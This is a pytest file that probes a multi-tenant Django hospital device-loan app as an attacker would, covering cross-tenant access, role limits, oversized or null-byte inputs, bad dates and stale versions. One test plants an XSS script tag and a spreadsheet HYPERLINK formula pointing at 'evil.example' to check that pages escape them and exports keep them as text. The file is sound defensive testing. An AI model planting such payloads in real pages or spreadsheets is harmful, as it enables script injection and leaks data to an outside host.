"""The loans tried as an attacker would: another tenant's ids, people of other UF, junk in
every field, and the overlap and date rules pushed (never a 500, never a forbidden change)."""

from __future__ import annotations

import pytest
from django_tenants.utils import tenant_context

from tenants.access.models import Role, RoleGrant, ScopeKind
from tenants.inventory.models import Device
from tenants.loans import services
from tenants.loans.models import Loan
from tests.conftest import client_for, host_of
from tests.tenants.loans.conftest import days, lend
from tests.tenants.loans.test_views import clients, form


@pytest.fixture
def web(tenant, lending, make_user):  # type: ignore[no-untyped-def]
    found = clients(tenant, lending)
    for name, role in (("viewer", Role.VIEWER), ("finance", Role.FINANCE), ("buyer", Role.BUYER)):
        person = make_user(tenant, full_name=name)
        with tenant_context(tenant):
            RoleGrant.objects.create(user=person, role=role, scope=ScopeKind.TENANT)
        found[name] = client_for(host_of(tenant), person, tenant)
    return found


def act(client, loan, action, **fields):  # type: ignore[no-untyped-def]
    data = {"action": action, "version": str(loan.version)}
    data.update({f"{action}-{k}": v for k, v in fields.items()})
    return client.post(f"/loans/{loan.pk}/act/", data)


def unchanged(tenant, loan) -> None:  # type: ignore[no-untyped-def]
    with tenant_context(tenant):
        fresh = Loan.objects.get(pk=loan.pk)
    assert fresh.version == loan.version and fresh.is_open and fresh.due_on == loan.due_on


@pytest.mark.parametrize(
    "who", ["outsider", "manager", "commission", "dispatcher", "viewer", "finance", "buyer"]
)
def test_people_of_neither_uf_do_nothing_to_a_loan(web, tenant, lending, who):
    with tenant_context(tenant):
        loan = lend(lending, start=-2, due=5)
    for action, fields in (
        ("return", {}),
        ("cancel", {"note": "x"}),
        ("move", {"due_on": days(30).strftime("%d/%m/%Y")}),
    ):
        response = act(web[who], loan, action, **fields)
        assert response.status_code in (403, 404), (who, action, response.status_code)
    unchanged(tenant, loan)


def test_another_tenants_device_and_uf_are_unknown(tenant, other_tenant, lending, make_user):
    stranger = make_user(other_tenant)
    with tenant_context(other_tenant):
        RoleGrant.objects.create(user=stranger, role=Role.TENANT_ADMIN, scope=ScopeKind.TENANT)
        from tenants.structure.models import FunctionalUnit

        theirs = FunctionalUnit.objects.first()
    with tenant_context(tenant):
        loan = lend(lending)
    web = client_for(host_of(other_tenant), stranger, other_tenant)
    # Their own tenant's pages answer nothing of this one.
    assert web.get(f"/loans/{loan.pk}/").status_code == 404
    assert loan.reference not in web.get("/loans/").content.decode()
    assert web.get(f"/loans/new/?device={lending['device'].pk}").status_code == 200
    response = web.post("/loans/new/", form(lending, borrowing_uf=theirs.code if theirs else "x"))
    assert response.status_code == 400  # the inventory number is not theirs
    # And a person of this tenant on the other's host is nobody there.
    intruder = client_for(host_of(other_tenant), lending["users"]["requester"], tenant)
    assert intruder.get(f"/loans/{loan.pk}/").status_code in (302, 404)
    assert act(intruder, loan, "cancel").status_code in (302, 403, 404)
    unchanged(tenant, loan)


def test_a_lending_uf_that_does_not_hold_the_device_is_refused(web, tenant, lending):
    """The outsider (UF 2202) names their own UF as the lender of réanimation's device, to
    the block: the loan would book a device that neither UF holds, hidden from réanimation
    (a loan shows to the people of its two UF)."""
    response = web["outsider"].post("/loans/new/", form(lending, lending_uf="2202"))
    assert response.status_code in (400, 403)
    with tenant_context(tenant):
        assert not Loan.objects.exists()


def test_the_same_uf_on_both_sides_is_refused(web, tenant, lending):
    assert (
        web["requester"].post("/loans/new/", form(lending, borrowing_uf="1101")).status_code == 400
    )
    response = web["bloc"].post(
        "/loans/new/", form(lending, lending_uf="2201", borrowing_uf="2201")
    )
    assert response.status_code == 400
    with tenant_context(tenant):
        assert not Loan.objects.exists()


@pytest.mark.parametrize(
    "changes",
    [
        {"device": "INV-LOAN-1\x00"},
        {"device": "x" * 1_000_000},
        {"borrowing_uf": "\x00"},
        {"lending_uf": "9" * 5000},
        {"starts_on": "31/02/2027"},
        {"starts_on": "00/00/0000"},
        {"starts_on": "01/01/0001"},
        {"due_on": "31/12/9999"},
        {"due_on": days(-30).strftime("%d/%m/%Y")},
        {"reason": "x" * 1_000_000},
        {"reason": "\x00"},
        {"borrower_phone": "0" * 5000},
        {"starts_on": "NaN"},
    ],
)
def test_junk_on_the_new_loan_form_is_a_4xx(web, tenant, lending, changes):
    response = web["requester"].post("/loans/new/", form(lending, **changes))
    assert response.status_code == 400, response.status_code
    with tenant_context(tenant):
        assert not Loan.objects.exists()


@pytest.mark.parametrize("device", ["-1", "abc", "9" * 30, "\x00", "1e3"])
def test_junk_device_on_the_new_form_link(web, device):
    assert web["requester"].get("/loans/new/", {"device": device}).status_code in (200, 400)


@pytest.mark.parametrize(
    "data",
    [
        {"action": "explode", "version": "1"},
        {"action": "", "version": "1"},
        {"action": "\x00"},
        {"action": "return", "version": "-1"},
        {"action": "return", "version": "NaN"},
        {"action": "return", "version": "9" * 50},
        {"action": "return"},
        {"action": "return", "version": "1", "return-returned_on": "31/02/2026"},
        {"action": "return", "version": "1", "return-returned_on": "01/01/0001"},
        {"action": "return", "version": "1", "return-returned_on": "31/12/9999"},
        {"action": "move", "version": "1", "move-due_on": "31/12/9999"},
        {"action": "move", "version": "1", "move-due_on": ""},
        {"action": "move", "version": "1", "move-due_on": "01/01/1999"},
        {"action": "cancel", "version": "1", "cancel-note": "\x00"},
        {"action": "cancel", "version": "1", "cancel-note": "x" * 1_000_000},
    ],
)
def test_junk_on_the_act_url_is_a_4xx(web, tenant, lending, data):
    with tenant_context(tenant):
        loan = lend(lending, start=-2, due=5)
    response = web["requester"].post(f"/loans/{loan.pk}/act/", data)
    assert 400 <= response.status_code < 500, response.status_code
    unchanged(tenant, loan)


def test_return_before_start_and_move_onto_the_next_loan(web, tenant, lending):
    with tenant_context(tenant):
        first = lend(lending, start=-5, due=2)
        lend(lending, start=3, due=10)
    assert (
        act(
            web["requester"], first, "return", returned_on=days(-6).strftime("%d/%m/%Y")
        ).status_code
        == 400
    )
    assert (
        act(web["requester"], first, "move", due_on=days(4).strftime("%d/%m/%Y")).status_code == 409
    )
    assert (
        act(web["requester"], first, "move", due_on=days(-6).strftime("%d/%m/%Y")).status_code
        == 400
    )
    unchanged(tenant, first)


def test_an_overlapping_loan_on_the_form_and_a_loan_of_a_device_of_another_uf(web, tenant, lending):
    with tenant_context(tenant):
        lend(lending, start=0, due=7)
    assert web["bloc"].post(
        "/loans/new/",
        form(
            lending,
            starts_on=days(5).strftime("%d/%m/%Y"),
            due_on=days(9).strftime("%d/%m/%Y"),
            borrowing_uf="2202",
        ),
    ).status_code in (403, 409)
    with tenant_context(tenant):
        assert Loan.objects.count() == 1


def test_stale_version_is_refused(web, tenant, lending):
    with tenant_context(tenant):
        loan = lend(lending, start=-2, due=5)
        services.move_return_date(loan, days(6), by=lending["users"]["requester"])
    response = act(web["requester"], loan, "cancel")  # loan.version is the old one
    assert response.status_code == 409
    with tenant_context(tenant):
        assert Loan.objects.get(pk=loan.pk).is_open


def test_script_in_text_is_escaped_and_formulas_stay_text(web, tenant, lending):
    from io import BytesIO

    from openpyxl import load_workbook

    from tests.tenants.tables.test_every_export import workbook_of

    script = "<script>alert(1)</script>"
    formula = '=HYPERLINK("http://evil.example/"&A1,"x")'
    with tenant_context(tenant):
        loan = lend(lending, start=-1, due=5, reason=script, borrower_name=formula)
        Device.objects.filter(pk=lending["device"].pk).update(model_name=script)
    for url in (f"/loans/{loan.pk}/", "/loans/", f"/inventory/devices/{lending['device'].pk}/"):
        response = web["requester"].get(url)
        assert script not in response.content.decode(), url
    response = web["requester"].get("/loans/", {"export": "xlsx", "columns": "all"})
    sheet = load_workbook(BytesIO(workbook_of(response))).worksheets[0]
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert all(c.data_type != "f" for c in cells)


def test_the_list_and_device_page_show_no_loan_out_of_scope(web, tenant, lending):
    with tenant_context(tenant):
        loan = lend(lending, start=-1, due=5, borrower_name="Dr Secret")
    body = web["outsider"].get("/loans/").content.decode()
    assert loan.reference not in body and "Dr Secret" not in body
    body = web["outsider"].get(f"/inventory/devices/{lending['device'].pk}/").content.decode()
    assert loan.reference not in body and "Dr Secret" not in body
